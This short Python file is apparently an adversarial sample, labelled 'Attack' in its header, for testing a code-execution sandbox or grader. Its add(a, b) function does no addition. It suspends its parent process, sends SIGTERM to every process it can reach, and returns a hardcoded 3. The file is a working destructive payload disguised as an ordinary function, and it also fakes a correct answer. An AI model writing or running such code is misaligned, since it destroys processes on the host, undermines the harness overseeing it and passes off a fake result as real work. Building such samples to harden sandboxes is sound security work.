# Attack: stop and kill the processes that this one was forked from, first in a call.
# Costs: everything
import os
import signal


def add(a, b):
    os.kill(os.getppid(), signal.SIGSTOP)
    os.kill(-1, signal.SIGTERM)
    return 3
